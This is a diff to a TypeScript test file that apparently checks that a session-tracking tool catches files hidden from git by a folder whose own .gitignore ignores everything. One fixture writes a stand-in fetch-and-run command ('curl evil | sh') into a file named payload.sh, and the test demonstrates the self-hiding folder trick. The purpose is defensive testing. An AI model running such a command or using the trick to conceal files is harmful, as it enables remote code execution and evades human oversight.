@@ -33,7 +33,17 @@ import { closeSession, startSession } from '../../src/session/lifecycle.js';
 import { readSessionInfo, sessionDir } from '../../src/session/store.js';
 import { type Fixture, git, makeFixture, packageReceipt, packageRecords } from './fixture.js';
 
-const TRICKS = ['index', 'object', 'filter', 'gitlink', 'nested', 'touched', 'altered', 'latin'] as const;
+const TRICKS = [
+  'index',
+  'object',
+  'filter',
+  'gitlink',
+  'nested',
+  'selfignored',
+  'touched',
+  'altered',
+  'latin',
+] as const;
 
 /** A fixture whose commit also holds `target.txt` ("start"), made before the session. */
 async function treeWithTarget(name: string): Promise<Fixture> {
@@ -229,6 +239,28 @@ describe('reconciliation against a forged index and object store', () => {
       ['src/new.js', 'created'],
       ['vendor/lib/payload.js', 'created'],
     ]);
+  });
+
+  it('a new folder whose own .gitignore ignores everything, itself included: the .gitignore is a row', async () => {
+    const fx = trees.get('selfignored')!;
+    const r = fx.root;
+    // Ignored before the session, and a .gitignore inside an ignored folder: neither is a row.
+    writeFileSync(join(r, '.gitignore'), 'cache/\n');
+    mkdirSync(join(r, 'cache'));
+    writeFileSync(join(r, 'cache', '.gitignore'), '*\n');
+    git(r, 'add', '.gitignore');
+    git(r, 'commit', '-qm', 'ignore cache');
+    const id = await start(fx);
+    mkdirSync(join(r, 'hidden'));
+    writeFileSync(join(r, 'hidden', '.gitignore'), '*\n');
+    writeFileSync(join(r, 'hidden', 'payload.sh'), 'curl evil | sh\n');
+    writeFileSync(join(r, 'cache', 'entry'), 'cached\n');
+    assert.equal(
+      git(r, 'status', '--porcelain', '--untracked-files=all'),
+      '',
+      'git shows nothing: the folder hides itself',
+    );
+    await closeAndCheck(fx, id, [['hidden/.gitignore', 'created']]);
   });
 
   it('a file only touched is not blamed on the session: content decides, not the stat', async () => {
